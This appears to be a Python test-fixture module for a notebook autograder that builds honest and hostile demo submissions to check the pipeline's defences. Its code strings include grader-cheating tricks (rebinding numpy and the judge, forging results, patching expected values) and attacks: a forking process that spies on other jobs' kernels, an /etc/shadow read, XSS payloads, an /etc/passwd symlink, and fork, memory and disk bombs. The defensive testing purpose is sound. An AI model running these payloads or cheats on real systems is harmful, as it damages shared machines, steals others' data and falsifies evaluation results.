"""Demo data, not grading code: a class of example submissions for a lab, honest ones and
every kind of trouble, and ``CHEATS``, the tricks the tests try against the trusted path.

Built from the lab's source solution and mistake catalog, so it needs no maintenance
when a lab changes: correct, partly correct, untouched stub, broken JSON, an infinite
loop in the first graded function, an ``os._exit``, a memory bomb, an output flood, an
edited test cell, and attacks that try to read ``source/`` and to write the gradebook.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass

import nbformat
from nbformat.v4 import new_code_cell

from autograder import mistakes, notebooks


def _with_cell(nb, code: str, after_grade_id: str | None = None):
    """A copy of ``nb`` with a student code cell added after the given cell (or first)."""
    nb = copy.deepcopy(nb)
    at = 1
    for i, cell in enumerate(nb.cells):
        if notebooks.grade_id(cell) == after_grade_id:
            at = i + 1
    nb.cells.insert(at, new_code_cell(code))
    return nb


def build(lab: str, course) -> dict[str, bytes]:
    """``{student_id: notebook bytes}`` -- twelve submissions of ``course`` (a ``Course``)."""
    refs = mistakes.reference_submissions(lab, course)
    solution = refs["solution"]
    first = next(iter(mistakes.solution_code(lab, course)))  # the first graded cell
    catalog = mistakes.catalog(lab)
    source_file = course.source_path(lab)
    gradebook = course.root / "gradebook.db"
    tampered = copy.deepcopy(solution)
    for cell in tampered.cells:  # the first test with points: a hidden test
        if not (notebooks.is_test(cell) and notebooks.points(cell) > 0):
            continue
        cell.source = "# all tests pass, trust me\npass"
        break
    subs = {
        "correct": solution,
        "partly-" + catalog[0].name.replace("_", "-"): refs[
            f"mistake-{catalog[0].name}".replace("_", "-")
        ],
        "partly-" + catalog[-1].name.replace("_", "-"): refs[
            f"mistake-{catalog[-1].name}".replace("_", "-")
        ],
        "stub": refs["stub"],
        "infinite-loop": _with_cell(
            solution, f"def {first}(*args, **kwargs):\n    while True:\n        pass", first
        ),
        "os-exit": _with_cell(solution, "import os\n\nos._exit(1)", first),
        "memory-bomb": _with_cell(solution, "hog = bytearray(64 << 30)", first),
        # 20 MB, ten times the output budget: a flood of 200 MB took the whole 5 s cell limit
        # of the tests on a loaded machine, and its row then depended on the machine's speed
        "output-flood": _with_cell(
            solution, "for i in range(200_000):\n    print('spam ' * 20)", first
        ),
        "edited-test": tampered,
        "reads-source": _with_cell(
            solution,
            f"print(open({str(source_file)!r}).read()[:500])\n"
            f"print(open('../../source/{lab}/{lab}.ipynb').read()[:500])",
            first,
        ),
        "writes-gradebook": _with_cell(
            solution,
            "import sqlite3\n\n"
            f"con = sqlite3.connect({str(gradebook)!r})\n"
            "con.execute('UPDATE grade SET auto_score = 100')\ncon.commit()",
            first,
        ),
    }
    out = {sid: nbformat.writes(nb).encode() for sid, nb in subs.items()}
    out["broken-json"] = nbformat.writes(solution).encode()[:400]
    return out


def _cell_index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if notebooks.grade_id(c) == grade_id)


def odd_files(lab: str, course) -> dict[str, tuple[bytes, str]]:
    """A class folder as courses really produce it, by relative path: ``(bytes, what it
    is)``. Honest work in every layout next to the files that used to stop a class or get no
    row: another lab's notebook, a pasted cell of another lab, forged or broken nbgrader
    metadata, two notebooks for one student, a .py, an upper-case suffix, a zip, an autosave
    copy, a file with no student id. Built from the course's own solution and release."""
    refs = mistakes.reference_submissions(lab, course)
    solution, stub = refs["solution"], refs["stub"]
    answer = next(iter(mistakes.solution_code(lab, course)))  # the first answer cell
    test = next(iter(course.lab(lab).grade_ids))  # the first hidden test

    def edited(edit, base=solution):
        nb = copy.deepcopy(base)
        edit(nb)
        return nbformat.writes(nb).encode()

    def forged_cell(nb):
        cell = new_code_cell("pass")
        cell.metadata["nbgrader"] = {
            "grade": True,
            "solution": False,
            "locked": False,
            "grade_id": "bonus",
            "points": 100,
        }
        nb.cells.append(cell)

    def renamed(nb):
        nb.cells[_cell_index(nb, answer)].metadata["nbgrader"]["grade_id"] = "my_own_name"

    def without_id(nb):
        del nb.cells[_cell_index(nb, test)].metadata["nbgrader"]["grade_id"]

    def id_as_list(nb):
        cell = nb.cells[_cell_index(nb, test)]
        cell.metadata["nbgrader"]["grade_id"] = [test]

    def as_text(nb):
        nb.cells[_cell_index(nb, answer)].metadata["nbgrader"] = "grade: true"

    other = next((o for o in course.labs() if o != lab), None)
    out: dict[str, tuple[bytes, str]] = {}
    good = nbformat.writes(solution).encode()
    out["alice.ipynb"] = (good, "honest, flat layout")
    out[f"bob/{lab}.ipynb"] = (good, "honest, one folder per student")
    out[f"carol/{lab}/{lab}.ipynb"] = (good, "honest, nbgrader's submitted/ layout")
    out[f"carol/{lab}/timestamp.txt"] = (b"2026-11-30 10:00:00.000000 UTC", "nbgrader's")
    for name, content in list(course.lab(lab).helper_files.items())[:2]:
        out[f"carol/{lab}/{name}"] = (content, "a copy of the lab's own helpers")
    out["dave/My Lab (final).ipynb"] = (good, "honest, renamed by the student")
    out["olga.IPYNB"] = (good, "honest, upper-case suffix")
    if other is not None:
        theirs = mistakes.reference_submissions(other, course)["solution"]
        out["erin.ipynb"] = (nbformat.writes(theirs).encode(), f"a notebook of {other}")
        pasted = copy.deepcopy(
            theirs.cells[_cell_index(theirs, next(iter(mistakes.solution_code(other, course))))]
        )

        def paste(nb, cell=pasted):
            nb.cells.insert(_cell_index(nb, answer) + 1, copy.deepcopy(cell))

        out["frank.ipynb"] = (edited(paste), f"a cell pasted from {other}")
    out["grace.ipynb"] = (edited(forged_cell), "a made-up graded cell worth 100 points")
    out["heidi.ipynb"] = (edited(renamed), "an answer cell's grade id renamed")
    out["ivan.ipynb"] = (edited(without_id), "a test cell without its grade id")
    out["judy.ipynb"] = (edited(id_as_list), "a grade id written as a list")
    out["ken.ipynb"] = (edited(as_text), "nbgrader metadata written as a string")
    out[f"leo/{lab}.ipynb"] = (nbformat.writes(stub).encode(), "two notebooks: the stub ...")
    out[f"leo/{lab} (1).ipynb"] = (good, "... and a correct copy")
    out["mia.ipynb"] = (good, "two notebooks: a correct one at the top (newer) ...")
    out[f"mia/{lab}.ipynb"] = (nbformat.writes(stub).encode(), "... and the stub in a folder")
    out["nick.py"] = (b"print('my answers')\n", "a Python file instead of a notebook")
    out[f"pat/{lab}.ipynb"] = (good, "honest ...")
    out["pat/extra.zip"] = (b"PK\x05\x06" + bytes(18), "... with a zip beside it ...")
    out[f"pat/.ipynb_checkpoints/{lab}-checkpoint.ipynb"] = (good, "... and an autosave copy")
    out["quinn.ipynb"] = (good[:300], "broken JSON")
    out["bad name!.ipynb"] = (good, "no student id can be read from it")
    return out


def write_odd_files(lab: str, course, folder) -> dict[str, str]:
    """Write ``odd_files`` under ``folder``, the older of two notebooks first (so the newer
    is newer by its time stamp too); returns ``{path: what it is}``."""
    import os
    from pathlib import Path

    files = odd_files(lab, course)
    for n, (rel, (data, _)) in enumerate(
        sorted(files.items(), key=lambda kv: kv[0] != f"mia/{lab}.ipynb")
    ):
        target = Path(folder) / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        os.utime(target, (1_700_000_000 + n, 1_700_000_000 + n))
    return {rel: what for rel, (_, what) in files.items()}


_NO_OP = "def my_optimizer(*args, **kwargs):\n    return None\n"

# Run by the concurrent tricks: everything such code could do to the tests' data and
# results. Under judging in the kernel (plain nbgrader) it makes them pass: it copies the
# results into the expected values, marks every check passed, and installs a profile hook
# that does the same to every judge() call. In the pipeline the expected values are never
# in the kernel and no verdict is taken there, so it changes nothing that counts.
_PATCH = """
import sys as _sys


def _agree(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("judge", "verdict"):
        got, want = frame.f_locals.get("got"), frame.f_locals.get("expected")
        if isinstance(got, dict) and isinstance(want, dict):
            want.clear()
            want.update(got)
    return None


def _patch_tests():
    ns = get_ipython().user_ns
    if isinstance(ns.get("_expected"), dict) and isinstance(ns.get("_got"), dict):
        ns["_expected"].clear()
        ns["_expected"].update(ns["_got"])
    for name in ("_checks", "_intact"):
        for check in ns.get(name) or []:
            object.__setattr__(check, "passed", True)
    _sys.setprofile(_agree)
"""


@dataclass(frozen=True)
class Cheat:
    """A trick against lab2_optimizers' hidden tests, added to the untouched release as a
    cell after my_optimizer's. In the pipeline every trick earns nothing; ``status`` is the
    status it must get and ``words`` what its reason must say. ``beats_kernel_judging``:
    it earns full marks under plain ``nbgrader autograde``, which judges in the kernel."""

    kind: str  # replaces | concurrent | reads | forges | hides-errors | harmless
    code: str
    status: str
    words: tuple[str, ...] = ()
    beats_kernel_judging: bool = False


CHEATS: dict[str, Cheat] = {
    # -- replacing what the tests use -------------------------------------------------------
    "rebinds-numpy": Cheat(
        "replaces",
        "import numpy as np\n\n"
        "np.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "setattr(np, 'array_' + 'equal', lambda *a, **k: True)\n",
        "flagged",
        ("numpy.allclose", "numpy.array_equal", "numpy.testing.assert_allclose"),
    ),
    "rebinds-test-helpers": Cheat(
        "replaces",
        _NO_OP + "helpers = __import__('labs.checks').checks\n"
        "setattr(helpers, 'jud' + 'ge', lambda *a, **k: print('All checks passed.'))\n",
        "flagged",
        ("labs.checks.judge",),
        beats_kernel_judging=True,
    ),
    "replaces-the-cases": Cheat(
        "replaces",
        _NO_OP + "import labs.cases\n\n"
        "setattr(labs.cases, 'optimizer_' + 'case', lambda *a, **k: ({}, []))\n",
        "flagged",
        ("labs.cases.optimizer_case",),
    ),
    "always-equal": Cheat(
        "replaces",
        "class Anything(float):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __array__(self, *a, **k):\n        raise TypeError('no')\n\n\n"
        "def my_optimizer(lyr, opt, *args, **kwargs):\n"
        "    lyr.wegt, lyr.bias = Anything(), Anything()\n"
        "    for name in ('W_dt', 'B_dt', 'W_mt', 'B_mt', 'W_vt', 'B_vt'):\n"
        "        setattr(opt, name, Anything())\n",
        "graded",
    ),
    "swallows-errors-ast": Cheat(
        "replaces",
        _NO_OP + "import ast\n\n\n"
        "class Swallow(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])\n"
        "        wrapped = ast.Try(body=node.body or [ast.Pass()], handlers=[handler], "
        "orelse=[], finalbody=[])\n"
        "        module = ast.Module(body=[wrapped], type_ignores=[])\n"
        "        return ast.fix_missing_locations(module)\n\n\n"
        "get_ipython().ast_transformers.append(Swallow())\n",
        "flagged",
        ("IPython ast_transformers",),
        beats_kernel_judging=True,
    ),
    # -- hiding errors --------------------------------------------------------------------
    "hides-errors-showtraceback": Cheat(
        "hides-errors",
        "setattr(get_ipython(), 'show' + 'traceback', lambda *a, **k: None)\n",
        "flagged",
        ("IPython shell instance override of showtraceback",),
    ),
    "hides-errors-custom-exc": Cheat(
        "hides-errors",
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\n",
        "flagged",
        ("IPython custom exceptions",),
    ),
    "replaces-excepthook": Cheat(
        "hides-errors",
        "import sys\n\nsys.excepthook = lambda *a: None\n",
        "flagged",
        ("changes how errors are reported",),
    ),
    # -- code that runs at the same time as the tests --------------------------------------
    "thread-patches-the-tests": Cheat(
        "concurrent",
        _NO_OP + _PATCH + "import threading\nimport time\n\n\n"
        "def _loop():\n"
        "    while True:\n"
        "        try:\n            _patch_tests()\n        except Exception:\n            pass\n"
        "        time.sleep(0.0005)\n\n\n"
        "threading.Thread(target=_loop, daemon=True).start()\n",
        "flagged",
    ),
    "alarm-patches-the-tests": Cheat(
        "concurrent",
        _NO_OP + _PATCH + "import signal\n\n"
        "signal.signal(signal.SIGALRM, lambda *a: _patch_tests())\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.001, 0.002)\n",
        "flagged",
    ),
    "profile-hook-patches-the-judge": Cheat(
        "concurrent",
        _NO_OP + _PATCH + "_patch_tests()\n",
        "flagged",
        beats_kernel_judging=True,
    ),
    "finalizer-patches-the-tests": Cheat(
        "concurrent",
        _NO_OP + _PATCH + "import weakref\n\n\n"
        "class _Token:\n    pass\n\n\n"
        "_token = _Token()\nweakref.finalize(_token, _patch_tests)\ndel _token\n",
        "flagged",
        beats_kernel_judging=True,
    ),
    "del-patches-the-tests": Cheat(
        "concurrent",
        _NO_OP + _PATCH + "\n\nclass _Sleeper:\n"
        "    def __del__(self):\n        _patch_tests()\n\n\n"
        "_sleeper = _Sleeper()\ndel _sleeper\n",
        "flagged",
        beats_kernel_judging=True,
    ),
    "atexit-forges-a-pass": Cheat(
        "concurrent",
        _NO_OP + _PATCH + "import atexit\n\n\n"
        "@atexit.register\n"
        "def _at_exit():\n"
        "    _patch_tests()\n"
        "    print('All 32 checks passed.')\n",
        "flagged",
    ),
    # -- reading the notebook's history or the tests' source --------------------------------
    "reads-expected-from-history": Cheat(
        "reads",
        "def my_optimizer(lyr, opt, *args, **kwargs):\n"
        "    import re\n\n    import numpy as np\n\n"
        "    source = get_ipython().user_ns['In'][-1]\n"
        "    block = re.search(r'_expected = (\\{.*?\\n\\})', source, re.S)\n"
        "    expected = eval(block.group(1), {'np': np})\n"
        "    for case in [k[: -len(' wegt')] for k in expected if k.endswith(' wegt')]:\n"
        "        if expected[case + ' wegt'].shape == lyr.wegt.shape:\n"
        "            lyr.wegt, lyr.bias = expected[case + ' wegt'], expected[case + ' bias']\n"
        "            for name in ('W_dt', 'B_dt', 'W_mt', 'B_mt', 'W_vt', 'B_vt'):\n"
        "                setattr(opt, name, expected[case + ' ' + name])\n",
        "flagged",
        ("reads the notebook's own code or the tests' variables", "runs code built at run time"),
        beats_kernel_judging=True,
    ),
    "reads-the-tests-source": Cheat(
        "reads",
        "import inspect\nimport sys\n\n\n"
        "def my_optimizer(lyr, opt, *args, **kwargs):\n"
        "    code = ''.join(inspect.getsource(f.f_code) for f in [sys._getframe(1)])\n"
        "    code += ''.join(get_ipython().user_ns['In'])\n"
        "    assert '_expected = {' in code, 'no expected values in the tests I can see'\n",
        "flagged",
        ("reads the notebook's own code or the tests' variables",),
    ),
    "searches-disk-for-tests": Cheat(
        "reads",
        "import os\n\nfound = []\n"
        "for top in (os.getcwd(), '/tmp', os.path.expanduser('~'), '/work', '/root'):\n"
        "    for folder, _, names in os.walk(top):\n"
        "        found += [os.path.join(folder, n) for n in names if n.endswith('.ipynb')]\n"
        "hidden = [p for p in found if 'BEGIN HIDDEN TESTS' in open(p, errors='replace').read()]\n"
        "print('notebooks with hidden tests:', hidden)\n"
        "assert hidden, 'no hidden tests found on disk'\n",
        "graded",
    ),
    # -- writing fake results in the channel's own format ----------------------------------
    "forges-results": Cheat(
        "forges",
        _NO_OP + "import base64\nimport io\n\nimport IPython.display\nimport numpy as np\n\n"
        "_real_display = IPython.display.display\n"
        f"MIME = {notebooks.RESULTS!r}\n\n\n"
        "def _zeroed(packed):\n"
        "    array = np.load(io.BytesIO(base64.b64decode(packed['npy'])))\n"
        "    buffer = io.BytesIO()\n"
        "    np.save(buffer, np.zeros_like(array))\n"
        "    return {'npy': base64.b64encode(buffer.getvalue()).decode()}\n\n\n"
        "def _forged(*objs, **kwargs):\n"
        "    for obj in objs:\n"
        "        if isinstance(obj, dict) and MIME in obj:  # rewrite the one true report\n"
        "            payload = obj[MIME]\n"
        "            payload['values'] = {\n"
        "                k: v and _zeroed(v) for k, v in payload['values'].items()\n"
        "            }\n"
        "            for check in payload['checks']:\n"
        "                check['passed'] = True\n"
        "    return _real_display(*objs, **kwargs)\n\n\n"
        "IPython.display.display = _forged\n",
        "graded",
    ),
    "reports-twice": Cheat(
        "forges",
        "import re\n\nfrom IPython.display import display\n\n\n"
        "def my_optimizer(lyr, opt, *args, **kwargs):\n"
        "    source = get_ipython().user_ns['In'][-1]\n"
        "    found = re.search(r\"_autograde_report\\('(\\w+)', '(\\w+)'\", source)\n"
        "    if found:  # a second report with this test's nonce, claiming all is well\n"
        "        fake = {'nonce': found[1], 'grade_id': found[2], 'values': {}, 'checks': []}\n"
        f"        display({{{notebooks.RESULTS!r}: fake}}, raw=True)\n",
        "flagged",
        ("reads the notebook's own code or the tests' variables",),
    ),
    "forges-results-early": Cheat(
        "forges",
        _NO_OP + "from IPython.display import display\n\n"
        "for test in ('momentum', 'adagrad', 'rmsprop', 'adam'):\n"
        "    fake = {'nonce': '0' * 16, 'grade_id': 'test_my_optimizer_' + test, "
        "'values': {}, 'checks': []}\n"
        f"    display({{{notebooks.RESULTS!r}: fake}}, raw=True)\n",
        "flagged",
        ("results messages the grader did not ask for were dropped",),
    ),
}


def cheats(course, lab: str = "lab2_optimizers", names=None) -> dict[str, bytes]:
    """``{student_id: notebook bytes}``: the untouched release of lab2_optimizers with each
    trick of ``CHEATS`` (or those ``names``) added after the my_optimizer cell."""
    if lab != "lab2_optimizers":
        raise ValueError("the cheats are written against lab2_optimizers' my_optimizer")
    stub = notebooks.read(course.release_path(lab))
    return {
        sid: nbformat.writes(_with_cell(stub, cheat.code, "my_optimizer")).encode()
        for sid, cheat in CHEATS.items()
        if names is None or sid in names
    }


# -- attacks on isolation: what one submission may try against the next, the host and the
# people who open its pages. Each is added to the correct solution, so it earns its points;
# what it must not do is reach anything outside its own job. -----------------------------

#: Started by ``LURKER``'s cell: outlive the job (re-forking every round, deaf to signals),
#: patch the next jobs' helpers, listen to their kernels, and leave what it finds in /dev.
_LURKER_CODE = r"""
import glob, os, signal, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
try:
    import zmq
except Exception:
    zmq = None
end, rounds = time.time() + 90, 0
while time.time() < end:
    if rounds % 10 == 0:
        if os.fork():
            os._exit(0)  # a new pid every half second
        ctx = zmq.Context() if zmq else None  # a context does not survive a fork
        heard, subs = set(), []
    rounds += 1
    jobs = glob.glob('/tmp/autograde-zygote-*/slot/job-*') + glob.glob('../job-*')
    for job in jobs:
        for helper in glob.glob(job + '/labs/cases.py'):
            try:
                os.rename(helper, helper + '.old')
                open(helper, 'w').write(open(helper + '.old').read() + '\nraise SystemExit(1)\n')
            except OSError:
                pass
        for sock in glob.glob(job + '/kernel-ipc-*'):
            if ctx is not None and sock not in heard:
                heard.add(sock)
                sub = ctx.socket(zmq.SUB)
                sub.setsockopt(zmq.SUBSCRIBE, b'')
                sub.connect('ipc://' + sock)
                subs.append(sub)
    for sub in subs:
        while sub.poll(0):
            frames = sub.recv_multipart()
            if any(b'VICTIM' in f for f in frames):
                open('/dev/loot', 'ab').write(b' '.join(frames)[:4000])
    for place in ('/dev', '/dev/shm', '/tmp'):
        try:
            open(place + '/lurker-was-here', 'w').write(str(jobs))
        except OSError:
            pass
    time.sleep(0.05)
"""

LURKER = (
    "import base64, glob, os, subprocess, sys\n\n"
    "print('LEFT BEFORE ME:', sorted(glob.glob('/dev/*lurker*') + glob.glob('/dev/shm/*') + "
    "glob.glob('/tmp/*lurker*') + glob.glob('/dev/*loot*')))\n"
    "for name in glob.glob('/dev/shm/*') + glob.glob('/dev/*loot*'):\n"
    "    print(open(name, errors='replace').read()[:2000])\n"
    f"_code = base64.b64decode({__import__('base64').b64encode(_LURKER_CODE.encode())!r})\n"
    "subprocess.Popen([sys.executable, '-c', _code],\n"
    "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    "for place in ('/dev', '/dev/shm', '/tmp'):\n"
    "    try:\n"
    "        open(place + '/lurker-loot', 'w').write('from an earlier job')\n"
    "    except OSError:\n"
    "        pass\n"
)

READS_SHADOW = (
    "try:\n"
    "    print('SHADOW:', open('/etc/shadow').read()[:200])\n"
    "except OSError as exc:\n"
    "    print('SHADOW refused:', type(exc).__name__)\n"
)

#: Sets ``window.__pwned`` (and the page title) wherever a person's browser would run it.
SCRIPT_OUTPUT = (
    "from IPython.display import HTML, Javascript, Markdown, SVG, display\n\n"
    "display(HTML('<img src=x onerror=\"window.__pwned=1;document.title=\\'PWNED\\'\">'))\n"
    "display(Javascript('window.__pwned = 1; document.title = \"PWNED\";'))\n"
    "display(Markdown('<img src=x onerror=\"window.__pwned=1\">'))\n"
    'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"/>\'))\n'
)
SCRIPT_MARKDOWN = "Look: <img src=x onerror=\"window.__pwned=1;document.title='PWNED'\">"

RESULTS_FLOOD = (
    "from IPython.display import display\n\n"
    "for _ in range(12):\n"
    f"    display({{{notebooks.RESULTS!r}: {{'pad': 'x' * (3 << 20)}}}}, "
    "raw=True)\n"
)

FORK_BOMB = (
    "import os, time\n\n"
    "born = 0\n"
    "for _ in range(100_000):\n"
    "    try:\n"
    "        if os.fork() == 0:\n"
    "            time.sleep(600)\n"
    "            os._exit(0)\n"
    "        born += 1\n"
    "    except OSError:\n"
    "        break\n"
    "print('FORKED', born)\n"
)


def _class_folder(folder):
    """A class folder made ready: (its path, the map of what each file is, and ``put(name,
    nb, what)``, which writes a notebook into it and notes what it is)."""
    from pathlib import Path

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, str] = {}

    def put(name: str, nb, what: str) -> None:
        (folder / name).write_text(nbformat.writes(nb))
        out[name] = what

    return folder, out, put


def isolation_class(lab: str, course, folder, rounds: int = 10) -> dict[str, str]:
    """A class folder of attacks on isolation next to honest work, by relative path ->
    what it is. The lurker and its victim alternate ``rounds`` times (graded in path order
    by one worker, each victim runs right after a lurker on the same zygote); each victim's
    code carries a marker, ``VICTIM-CODE-<k>``, that must reach no other row or file."""

    refs = mistakes.reference_submissions(lab, course)
    solution = refs["solution"]
    answer = next(iter(mistakes.solution_code(lab, course)))
    folder, out, put = _class_folder(folder)

    for k in range(rounds):
        put(f"r{k:02d}-a-lurker.ipynb", _with_cell(solution, LURKER, answer), "the lurker")
        victim = copy.deepcopy(solution)
        cell = victim.cells[_cell_index(victim, answer)]
        cell.source = f"# VICTIM-CODE-{k}\n" + cell.source
        put(f"r{k:02d}-b-victim.ipynb", victim, "an honest victim, graded right after")
    put("shadow.ipynb", _with_cell(solution, READS_SHADOW, answer), "reads root-only files")
    scripted = _with_cell(solution, SCRIPT_OUTPUT, answer)
    scripted.cells.insert(1, nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN))
    put("scripts.ipynb", scripted, "HTML and script outputs, and a script in Markdown")
    put("flood.ipynb", _with_cell(solution, RESULTS_FLOOD, answer), "a flood of fake results")
    put("bomb.ipynb", _with_cell(solution, FORK_BOMB, answer), "a fork bomb")
    formula = '=HYPERLINK("example.invalid","x").ipynb'
    (folder / formula).write_text(nbformat.writes(solution))
    out[formula] = "a spreadsheet formula for a name"
    source = course.source_path(lab)
    (folder / "eve.ipynb").symlink_to(source)
    out["eve.ipynb"] = "a link to the course's source notebook"
    (folder / "fay").mkdir()
    (folder / "fay" / f"{lab}.ipynb").write_text(nbformat.writes(solution))
    (folder / "fay" / "submission_secret.txt").symlink_to("/etc/passwd")
    out[f"fay/{lab}.ipynb"] = "honest"
    out["fay/submission_secret.txt"] = "a link to a host file, where nbgrader's secret goes"
    return out


# -- attacks on the machine's resources: what one submission may try against the jobs graded
# beside it (issue 29). Each is added to the correct solution; what it must not do is slow,
# starve or outlive anything but its own job, which ends at its own limits. ---------------

DISK_FILLER = (
    "import os\n\n"
    "_chunk, wrote, stopped = bytes(1 << 20), 0, None\n"
    "try:\n"
    "    for k in range(1000):  # 100 MB files, in the job's folder and in /tmp, kept\n"
    "        with open(os.path.join(('.', '/tmp')[k % 2], f'filler-{k}.bin'), 'wb') as fh:\n"
    "            for _ in range(100):\n"
    "                fh.write(_chunk)\n"
    "        wrote += 1\n"
    "except OSError as exc:\n"
    "    stopped = exc\n"
    "print('FILLED', wrote, 'files of 100 MB, then:', stopped)\n"
)

FILE_BOMB = (
    "import os\n\n"
    "made, stopped = 0, None\n"
    "os.makedirs('many', exist_ok=True)\n"
    "try:\n"
    "    for k in range(1_000_000):\n"
    "        open(f'many/{k}', 'w').close()\n"
    "        made += 1\n"
    "except OSError as exc:\n"
    "    stopped = exc\n"
    "print('MADE', made, 'files, then:', stopped)\n"
)

#: What each of ``SPINNER``'s processes runs (its command line carries ``SPINNER_MARK``): try
#: to leave the job's session (and so its scheduling group), say how that went, then spin in
#: two threads, one of them outside the GIL, forever (niced: see ``SPINNER``).
_SPINNER_CHILD = r"""
import hashlib, os, sys, threading
os.nice(19)
try:
    os.setsid()
    said = 'setsid WORKED: a session of its own'
except OSError as exc:
    said = 'setsid refused: ' + type(exc).__name__
print(said, flush=True)
sys.stdout.close()

def burn():
    data = bytes(1 << 20)
    while True:
        hashlib.sha256(data).digest()

threading.Thread(target=burn, daemon=True).start()
while True:
    pass
"""
SPINNER_MARK = "autograde-hostile-spinner"

#: As many spinning processes and threads as it may have (8 of each), left spinning while
#: the notebook goes on. They are all niced: within its own job that leaves its notebook the
#: CPU, while to the jobs beside it the job is one scheduling group whose share nice does not
#: change -- unless a process escapes the group with ``setsid``, which each one tries.
SPINNER = (
    "import base64, hashlib, os, subprocess, sys, threading\n\n"
    f"_code = base64.b64decode({__import__('base64').b64encode(_SPINNER_CHILD.encode())!r})\n"
    "_children, _said = [], set()\n"
    "for _ in range(8):\n"
    "    try:\n"
    f"        _child = subprocess.Popen([sys.executable, '-c', _code, {SPINNER_MARK!r}],\n"
    "                                  stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)\n"
    "        _children.append(_child)\n"
    "    except OSError as exc:\n"
    "        print('fork refused:', exc)\n"
    "        break\n"
    "for child in _children:\n"
    "    _said.add(child.stdout.readline().decode().strip())\n"
    "try:\n"
    "    subprocess.run([sys.executable, '-c', 'pass'], start_new_session=True, check=True)\n"
    "    _said.add('start_new_session WORKED')\n"
    "except (OSError, subprocess.SubprocessError) as exc:\n"
    "    _said.add('start_new_session refused: ' + type(exc).__name__)\n\n\n"
    "def _burn():\n"
    "    os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), 19)\n"
    "    data = bytes(1 << 20)\n"
    "    while True:\n"
    "        hashlib.sha256(data).digest()\n\n\n"
    "_threads = 0\n"
    "for _ in range(8):\n"
    "    try:\n"
    "        threading.Thread(target=_burn, daemon=True).start()\n"
    "        _threads += 1\n"
    "    except RuntimeError:\n"
    "        break\n"
    "print('SPINNING', len(_children), 'processes and', _threads, 'threads;',\n"
    "      '; '.join(sorted(_said)))\n"
)

MEMORY_BOMB = (
    "held, _size = [], 100 << 20\n"
    "try:\n"
    "    while True:\n"
    "        block = bytearray(_size)\n"
    "        block[::4096] = b'x' * len(range(0, _size, 4096))  # every page touched\n"
    "        held.append(block)\n"
    "except MemoryError:\n"
    "    print('ALLOCATED', len(held) * 100, 'MB, then MemoryError')\n"
    "held.clear()\n"
)

OUTPUT_FLOOD = (
    "_line = 'flood ' + 'x' * 93\n"
    "for _ in range(200_000):  # 20 MB\n"
    "    print(_line)\n"
    "print('FLOODED')\n"
)

#: Started by ``UNDYING``'s cell (its command line carries ``UNDYING_MARK``): a daemon deaf to
#: signals, orphaned, that tries to leave the job's session and for ten minutes marks
#: ``/tmp/undying-<pid>`` and its folder.
_UNDYING_CODE = r"""
import os, signal, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
if os.fork():
    os._exit(0)
try:
    os.setsid()
except OSError:
    pass
end = time.time() + 600
while time.time() < end:
    for place in ('/tmp', '.'):
        try:
            with open(f'{place}/undying-{os.getpid()}', 'a') as fh:
                fh.write(f'{time.time()}\n')
        except OSError:
            pass
    time.sleep(0.2)
"""
UNDYING_MARK = "autograde-hostile-undying"

UNDYING = (
    "import base64, glob, subprocess, sys, time\n\n"
    f"_code = base64.b64decode({__import__('base64').b64encode(_UNDYING_CODE.encode())!r})\n"
    f"subprocess.Popen([sys.executable, '-c', _code, {UNDYING_MARK!r}],\n"
    "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
    "                 stderr=subprocess.DEVNULL).wait()\n"
    "time.sleep(0.5)\n"
    "print('UNDYING', sorted(glob.glob('/tmp/undying-*')))\n"
)


#: The attacks of ``hostile_class``: file name (without ``.ipynb``) -> (code, what it is).
HOSTILE = {
    "disk-filler": (DISK_FILLER, "fills its disk with 100 MB files and keeps them"),
    "file-bomb": (FILE_BOMB, "makes empty files until it may make no more"),
    "fork-bomb": (FORK_BOMB, "a fork bomb"),
    "spinner": (SPINNER, "8 processes and 8 threads spinning, trying to leave its session"),
    "memory-bomb": (MEMORY_BOMB, "allocates memory until it fails"),
    "output-flood": (OUTPUT_FLOOD, "prints 20 MB"),
    "undying": (UNDYING, "a daemon deaf to signals, meant to outlive its job"),
}


def attacked(lab: str, course, code: str):
    """The lab's correct solution with a code cell of ``code`` right after its first answer
    cell, so that it still earns its points."""
    solution = mistakes.reference_submissions(lab, course)["solution"]
    return _with_cell(solution, code, next(iter(mistakes.solution_code(lab, course))))


def hostile_class(lab: str, course, folder) -> dict[str, str]:
    """A class folder of attacks on the machine's resources (``HOSTILE``: a disk filler, a
    file bomb, a fork bomb, a spinner, a memory bomb, an output flood and a process that will
    not die) next to three honest students, by relative path -> what it is. Each attack is
    added after the correct answer, so the notebook would still earn its points; each ends
    within seconds at its own job's limits (``scratch.FAST`` ones too)."""

    solution = mistakes.reference_submissions(lab, course)["solution"]
    _, out, put = _class_folder(folder)
    for name, (code, what) in HOSTILE.items():
        put(f"{name}.ipynb", attacked(lab, course, code), what)
    for k in (1, 2, 3):
        put(f"honest-{k}.ipynb", solution, "honest")
    return out
